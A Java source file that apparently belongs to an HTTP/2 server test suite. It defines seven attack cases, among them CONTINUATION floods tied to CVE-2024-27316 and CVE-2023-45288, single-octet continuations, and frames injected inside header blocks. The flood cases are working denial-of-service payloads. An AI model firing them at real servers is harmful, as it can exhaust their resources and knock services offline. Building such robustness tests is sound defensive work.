package dev.weir.attack;

import static dev.weir.wire.testkit.Http2Wire.CONTINUATION;
import static dev.weir.wire.testkit.Http2Wire.END_HEADERS;
import static dev.weir.wire.testkit.Http2Wire.END_STREAM;
import static dev.weir.wire.testkit.Http2Wire.HEADERS;
import static dev.weir.wire.testkit.Http2Wire.PING;

import java.util.List;

/** Attacks by blocks of fields that do not end (CVE-2024-27316, CVE-2023-45288 and their kin). */
public final class Continuations {
    /** The largest frame that a server takes by default. */
    private static final int FULL = 16_384;

    private Continuations() {}

    /** All of them. */
    public static List<Http2Attack> all() {
        return List.of(
                flood(),
                fullFrames(),
                octetByOctet(),
                resetWithin(),
                interrupted(),
                withoutHeaders(),
                onAnotherStream());
    }

    /** Small frames of fields without end. */
    public static Http2Attack flood() {
        return Http2Attack.begun("CONTINUATION flood, CVE-2024-27316", (wire, _, size) -> {
            wire.frame(
                    HEADERS,
                    END_STREAM,
                    1,
                    wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext"));
            for (int i = 0; i < size; i++) {
                wire.frame(CONTINUATION, 0, 1, wire.block("x-" + i + ": " + i));
            }
        });
    }

    /** The same with frames as large as they may be, each of one field that is not indexed. */
    public static Http2Attack fullFrames() {
        return Http2Attack.begun("CONTINUATION flood of full frames, CVE-2023-45288", (wire, _, size) -> {
            wire.frame(
                    HEADERS,
                    END_STREAM,
                    1,
                    wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext"));
            for (int i = 0; i < size; i++) {
                wire.frame(CONTINUATION, 0, 1, HpackAttacks.literal("x", "v".repeat(FULL - 10)));
            }
        });
    }

    /** One octet of the block a frame. */
    public static Http2Attack octetByOctet() {
        return Http2Attack.begun("CONTINUATION by single octets, CVE-2024-27316", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                byte[] block = HpackAttacks.literal("x-some-name", "some value");
                wire.frame(HEADERS, END_STREAM, stream, block[0]);
                for (int i = 1; i < block.length; i++) {
                    wire.frame(CONTINUATION, i == block.length - 1 ? END_HEADERS : 0, stream, block[i]);
                }
            }
        });
    }

    /** Section 6.10: nothing may come between the frames of a block. */
    public static Http2Attack interrupted() {
        return Http2Attack.begun("PING within a block of fields", (wire, _, _) -> {
            wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET"));
            wire.frame(PING, 0, 0, new byte[8]);
        });
    }

    /** The stream's own reset may not either. */
    public static Http2Attack resetWithin() {
        return Http2Attack.begun("RST_STREAM within a block of fields, CVE-2024-27919", (wire, _, _) -> {
            wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET"));
            wire.reset(1, 8);
        });
    }

    /** A CONTINUATION that continues nothing. */
    public static Http2Attack withoutHeaders() {
        return Http2Attack.begun(
                "CONTINUATION without HEADERS",
                (wire, _, _) -> wire.frame(CONTINUATION, END_HEADERS, 1, wire.block(":method: GET")));
    }

    /** A CONTINUATION of another stream's block. */
    public static Http2Attack onAnotherStream() {
        return Http2Attack.begun("CONTINUATION on another stream", (wire, _, _) -> {
            wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET"));
            wire.frame(CONTINUATION, END_HEADERS, 3, wire.block(":scheme: " + wire.scheme()));
        });
    }
}
